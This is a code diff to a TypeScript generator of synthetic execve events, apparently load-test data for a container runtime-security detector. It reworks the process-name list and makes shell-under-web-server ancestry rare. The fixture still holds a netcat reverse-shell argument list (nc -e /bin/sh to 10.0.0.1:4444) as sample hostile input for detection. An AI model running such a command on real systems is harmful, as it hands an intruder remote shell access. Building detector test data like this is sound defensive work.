@@ -12,7 +12,7 @@ function rng(seed: number): () => number {
   };
 }
 
-const NAMES = ['sh', 'bash', 'ls', 'cat', 'python3', 'node', 'nginx', 'grep', 'ps', 'curl', 'java', 'sleep', 'awk', 'sed', 'date', 'kubectl', 'runc', 'containerd-shim', 'apt-get', 'nc'];
+const NAMES = ['sh', 'bash', 'ls', 'cat', 'python3', 'node', 'nginx', 'grep', 'ps', 'curl', 'java', 'sleep', 'awk', 'sed', 'date', 'kubectl', 'runc', 'containerd-shim', 'tar', 'wc'];
 const PARENTS: ProcAncestor[][] = [
   [{ pid: 900, name: 'containerd-shim', exepath: '/usr/bin/containerd-shim-runc-v2' }, { pid: 1, name: 'systemd', exepath: '/usr/lib/systemd/systemd' }],
   [{ pid: 1200, name: 'bash', exepath: '/usr/bin/bash', args: [] }, { pid: 1100, name: 'sshd', exepath: '/usr/sbin/sshd', args: ['-D'] }, { pid: 1, name: 'systemd' }],
@@ -49,8 +49,10 @@ export function makeEvents(count: number, seed = 42): VigilEvent[] {
         type: 'execve', source: 'syscall', timeMs: t,
         proc: {
           pid: 10_000 + i, vpid: inContainer ? 20 + (i % 50) : 10_000 + i, name, exe: name, exepath: `/usr/bin/${name}`,
-          args: name === 'nc' ? ['-e', '/bin/sh', '10.0.0.1', '4444'] : ['-c', `echo ${i}`], tty: r() < 0.02 ? 34816 : 0,
-          uid: 0, user: 'root', cwd: '/', isExeUpperLayer: false, startTimeMs: t, ancestors: pick(PARENTS),
+          args: name === 'nc' ? ['-e', '/bin/sh', '10.0.0.1', '4444'] : ['-c', `echo ${i}`], tty: rare ? 34816 : 0,
+          uid: 0, user: 'root', cwd: '/', isExeUpperLayer: false, startTimeMs: t,
+          // Web-server parents (a shell under one matches a rule) are rare.
+          ancestors: rare ? pick(PARENTS) : PARENTS[i % 2]!,
         },
         ...(c ? { container: c } : {}), ...(k8s ? { k8s } : {}),
       });
